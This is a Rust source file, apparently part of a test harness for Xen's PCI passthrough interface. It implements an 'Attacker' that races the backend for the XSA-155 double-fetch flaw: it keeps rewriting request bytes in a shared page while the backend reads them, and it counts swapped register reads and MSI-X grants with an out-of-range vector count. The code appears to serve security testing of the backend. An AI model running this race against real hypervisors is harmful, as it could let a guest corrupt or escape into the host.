//! XSA-155 with a processor for each side: a request changes all the time while the backend handles it.
//!
//! If guest and backend share a processor, a request can change only before or after the backend runs. With two
//! processors it changes meanwhile.

use super::Attacker;
use crate::frontend::Failure;
use crate::grants::Grants;
use crate::op::Op;
use core::time::Duration;
use xenbus::client::Transport;
use xenbus::pciif::layout::{OP_ERR, OP_VALUE};
use xenbus::pciif::{Command, SharedPage};

/// How long each kind of request is raced.
const LENGTH: Duration = Duration::from_secs(10);
/// Offsets of two registers with different values: ids and class. The offsets differ only in their low byte.
const REGISTERS: [u8; 2] = [0x00, 0x08];
/// Place of the low byte of the request's field for the offset in config space.
const OFFSET: usize = OP_VALUE - 8;
/// Numbers of vectors: a valid one, and more than the page holds.
const VECTORS: [u8; 2] = [1, 200];

/// Most changes of one request.
const CHANGES: usize = 2000;

/// Results of the requests.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Races {
    /// Reads that were answered for the register that they were sent with.
    pub reads_as_sent: u32,
    /// Reads that were answered for the other register.
    pub reads_as_changed: u32,
    /// Requests for MSI-X that were granted.
    pub vectors_granted: u32,
    /// Requests for MSI-X that were refused.
    pub vectors_refused: u32,
}

impl<P: Grants, T: Transport> Attacker<'_, P, T> {
    /// Races the backend.
    ///
    /// # Errors
    /// [`Failure::Unsound`] if an answer is that of no request that ever stood in the page.
    pub fn race(&mut self) -> Result<Races, Failure> {
        let mut races = Races::default();
        let mut values = [0; 2];
        for (value, register) in values.iter_mut().zip(REGISTERS) {
            let read = Op::read(0, register.into(), 4);
            *value = self.frontend.ask(self.platform, &read)?.value();
        }
        let end = self.platform.now().saturating_add(LENGTH);
        while self.platform.now() < end {
            self.change_until_answered(&Op::read(0, REGISTERS[0].into(), 4), OFFSET, REGISTERS)?;
            match self.word(OP_VALUE) {
                value if value == values[0] => races.reads_as_sent += 1,
                value if value == values[1] => races.reads_as_changed += 1,
                _ => return Err(Failure::Unsound("the answer to a read that nobody asked for")),
            }
        }
        let Some(shape) = self.shapes.iter().find(|shape| shape.msix != 0) else {
            return Ok(races);
        };
        let devfn = u32::from(shape.devfn);
        let end = self.platform.now().saturating_add(LENGTH);
        while self.platform.now() < end {
            self.change_until_answered(&Op::msix(devfn, [0]), OP_VALUE, VECTORS)?;
            if self.word(OP_ERR) == 0 {
                races.vectors_granted += 1;
            } else {
                races.vectors_refused += 1;
            }
            self.frontend
                .ask(self.platform, &Op::new(Command::DisableMsix, devfn))?;
        }
        self.check_answers()?;
        Ok(races)
    }

    /// Sends a request and changes its byte at `at` again and again, for a random number of times or until the answer is
    /// there. After the last change the answer has to come.
    fn change_until_answered(&mut self, op: &Op, at: usize, values: [u8; 2]) -> Result<(), Failure> {
        self.frontend.send(self.platform, &op.encode());
        let changes = self.random.usize(1..CHANGES);
        for value in values.into_iter().cycle().skip(1).take(changes) {
            if !self.frontend.is_active() {
                return Ok(());
            }
            self.frontend.page.copy_in(at, &[value]);
        }
        // The backend drops an answer if the request in the page is not the one that it took. It looks again at the next
        // event.
        self.platform.notify(self.frontend.port);
        self.frontend.finish(self.platform)
    }

    fn word(&self, at: usize) -> u32 {
        let mut bytes = [0; 4];
        self.frontend.page.copy_out(at, &mut bytes);
        u32::from_le_bytes(bytes)
    }
}
